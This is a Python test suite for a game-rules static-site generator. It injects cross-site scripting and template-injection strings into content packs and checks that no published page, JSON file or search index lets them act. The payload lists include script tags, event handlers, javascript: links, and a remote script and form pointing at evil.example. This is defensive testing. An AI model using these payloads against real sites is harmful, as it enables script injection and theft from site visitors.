"""A site with a pack whose every text tries to act: a scan of all its pages finds nothing that came from the pack."""

import json
import os
import re
import shutil
from pathlib import Path

import pytest
from hostile_pictures import SECRET, picture
from page_scan import Scan
from rich_pack import rich_pack
from test_hostile_packs import POND, folder

from wwrules.diagnostics import Severity
from wwrules.packs.starting import start_pack
from wwrules.pipeline import check_game
from wwrules.publish.site import build_site

SOAK = int(os.environ.get("WWRULES_SOAK", "1"))
LOCALES = ("pl", "uk", "cs")
GAME = Path(__file__).parents[2] / "content" / "wonderlands-war"
MARK = "zdxq"  # stands in every hostile text, so that we know that it was published
TEXTS = [
    f"{MARK} <script>alert(1)</script>",
    f"{MARK} <img src=x onerror=alert(1)>",
    f"{MARK} [x](javascript:alert(1)) <a href='javascript:alert(1)'>x</a>",
    f"{MARK} <svg/onload=alert(1)> <iframe src=//evil.example></iframe>",
    f"{MARK} \" onmouseover=\"alert(1)\" x=\" ' onfocus='alert(1)' autofocus '",
    f"{MARK} </title></script></style></textarea>--><script src=https://evil.example/x.js></script>",
    f"{MARK} {{% 7*7 %}} ${{7*7}} <link rel=stylesheet href=https://evil.example>",
    f"{MARK} ![x](https://evil.example/x.png) <https://evil.example> &lt;script&gt; &#60;script&#62;",
    f"{MARK} <base href=https://evil.example/> <meta http-equiv=refresh content=0;url=//evil.example>",
    f"{MARK} ]> <x/> <!-- <form action=//evil.example><input name=a> \\u003cscript\\u003e",
]
TOLD = ("about", "birds", "changes", "faq", "glossary", "packs", "rulings", "rules/marsh.marsh")


def hostile_text(number: int) -> str:
    return TEXTS[number % len(TEXTS)]


def three_languages(home: Path) -> Path:
    """The pond with a third language, which has the names of another one."""
    pond = Path(shutil.copytree(POND, home / "pond"))
    shutil.copytree(pond / "words" / "cs", pond / "words" / "uk")
    page = pond / "game.yaml"
    page.write_text(page.read_text("utf-8").replace("[pl, cs]", "[pl, uk, cs]"), "utf-8")
    return pond


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Path:
    home = tmp_path_factory.mktemp("published")
    files = rich_pack(LOCALES, len(TEXTS), hostile_text) | {"images/b0.png": picture() + SECRET}
    return built(home, check_game(three_languages(home), [folder(files)]))


def built(home: Path, checked) -> Path:
    game, found = checked
    errors = [one.code for one in found if one.severity is Severity.ERROR and one.source.file.startswith("marsh/")]
    assert set(errors) <= {"foreign-letter"}  # names in Latin letters, which are published all the same to see what they do
    build_site([game], home / "site", LOCALES)
    return home / "site"


@pytest.mark.slow
def test_nothing_on_any_page_came_from_the_pack_to_act(site):
    for locale in LOCALES:
        marked = {page.relative_to(site / locale / "pond").with_suffix("").as_posix() for page in scanned(site, locale)}
        assert {*TOLD, *(f"bird/marsh.b{number}" for number in range(len(TEXTS)))} <= marked


def scanned(site: Path, locale: str) -> list[Path]:
    """Look at every page of a language, and give those with texts of the pack."""
    pages = {page: page.read_text("utf-8") for page in sorted((site / locale).rglob("*.html"))}
    scans = {page: Scan(html) for page, html in pages.items()}
    marked = [page for page, html in pages.items() if MARK in html]
    known = {script for page, scan in scans.items() if page not in marked for script in scan.scripts}  # those of all pages
    for page, scan in scans.items():
        lost = ["<base>"] if page.name == "404.html" else []  # a page that is shown at any address
        assert scan.dangers in ([], lost), page
        assert set(scan.scripts) <= known, page
    assert all("alert" not in body and "evil" not in source for source, body in known)
    return marked


@pytest.mark.slow
def test_what_is_no_page_of_the_game_has_nothing_of_the_pack(site):
    for page in (*site.glob("*.html"), *(site / "docs").rglob("*.html")):
        assert MARK not in page.read_text("utf-8"), page


@pytest.mark.slow
def test_nothing_else_that_is_published_acts(site):
    scanned_data(site, "pond")


def scanned_data(site: Path, game: str) -> None:
    """Data that scripts read: plain JSON, in which no text can end the script; drawings and styles without the pack's words."""
    for file in sorted(one for one in site.rglob("*") if one.is_file() and one.suffix != ".html"):
        if file.suffix == ".json":
            json.loads(file.read_text("utf-8"))
            assert "<" not in file.read_text("utf-8"), file
        elif file.name != "search-data.js":
            assert MARK.encode() not in file.read_bytes(), file
            assert SECRET not in file.read_bytes(), file
    for locale in LOCALES:
        everything = json.loads((site / locale / game / "data" / "all.json").read_text("utf-8"))
        assert all(MARK in json.dumps(everything[part]) for part in ("entries", "rules", "rulings"))
        data = (site / locale / game / "search-data.js").read_text("utf-8")
        assert "<" not in data
        found = json.loads(re.fullmatch(r"wwrulesSearch\((.*)\);\n", data).group(1))
        assert len([doc for doc in found["docs"] if MARK in doc[2] or MARK in doc[3]]) >= len(TEXTS)


@pytest.mark.skipif(SOAK == 1, reason="the whole site is built by `make soak`")
def test_nothing_on_the_whole_site_came_from_the_pack_to_act(tmp_path):
    """The same with the real game: charts, odds, examples and everything that is said in three languages."""
    site = built(tmp_path, check_game(GAME, [folder(acting_allies(tmp_path / "marsh"))]))
    for locale in LOCALES:
        assert len(scanned(site, locale)) > len(TOLD)
    scanned_data(site, GAME.name)


def acting_allies(home: Path) -> dict[str, str | bytes]:
    """A set of allies, as it is started, with hostile names, and with hostile texts about each of them."""
    start_pack(GAME, "ally-set", "marsh", "Marsh", home)
    started = {one.relative_to(home).as_posix(): one.read_text("utf-8") for one in home.rglob("*.yaml")}
    allies = re.findall(r"^  ([a-z-]+-mine):", started["cards/allies.yaml"], re.MULTILINE)
    files: dict[str, str | bytes] = {}
    for place, text in started.items():
        texts = iter([f"{place.split('/')[1]} {one}" for one in TEXTS] if "/" in place else TEXTS)
        files[place] = re.sub(r"name: [^,]+,", lambda _, texts=texts: f"name: {json.dumps(next(texts)[:70])},", text)
    ours = {f"b{number}": ally for number, ally in enumerate(allies)}
    ours |= {"nest": "shard", "pond": GAME.name, "50": "500"}
    for place, text in rich_pack(LOCALES, len(allies), hostile_text).items():
        if re.search(r"pack|rul|faq|changes|glossary|prose|reviewed", place):
            files[place] = re.sub(rf"\b({'|'.join(ours)})\b", lambda found: ours[found[0]], str(text))
    return files


@pytest.mark.parametrize(
    ("html", "found"),
    [
        ("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p><a href='../a.html#b'>x</a><img src='data:image/png;base64,AA=='>", 0),
        ("<a href='javascript:alert(1)'>", 1),
        ("<a href=' JAVA\tscript:alert(1)'>", 1),
        ("<a href='&#106;avascript:alert(1)'>", 1),
        ("<a href='data:text/html,x'>", 1),
        ("<img src='data:image/svg+xml;base64,AA=='>", 1),
        ("<a href='data:image/png;base64,AA=='>", 1),
        ("<img src=x onerror=alert(1)>", 1),
        ("<svg/onload=alert(1)>", 1),
        ("<svg><a xlink:href='javascript:alert(1)'/></svg>", 1),
        ("<img src=//evil.example/x>", 1),
        ("<img src='\\\\evil.example/x'>", 1),
        ("<link href=https://evil.example>", 1),
        ("<iframe></iframe><base href=x><object></object>", 3),
        ("<meta http-equiv=refresh content=0>", 1),
        ("<form action=https://evil.example>", 1),
        ("<p style='background:url(//evil.example)'>", 1),
        ("<style>@import 'x';</style>", 1),
    ],
)
def test_the_scan_bites(html, found):
    assert len(Scan(html).dangers) == found


def test_the_scan_knows_scripts():
    assert Scan("<script src='../../a.js'></script><script>alert(1)</script>").scripts == [("a.js", ""), ("", "alert(1)")]
